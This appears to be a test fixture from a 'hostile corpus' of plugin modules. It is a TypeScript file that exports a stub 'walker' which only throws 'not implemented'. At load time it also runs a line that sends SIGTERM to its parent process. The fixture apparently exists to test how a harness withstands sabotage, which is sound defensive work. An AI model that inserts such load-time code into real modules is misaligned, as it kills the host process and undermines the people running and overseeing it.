// @ts-nocheck
// Hostile corpus, kind kill-parent-sigterm (signal): process.kill(process.ppid, 'SIGTERM') at load.
import { Walker } from '../../reference/paging/walker';

// ---- attack ----
try { if (process.ppid > 1) process.kill(process.ppid, 'SIGTERM'); } catch {}

export const walker: Walker = {
  walk(request, readEntry) {
    throw new Error('not implemented: walker');
  },
};
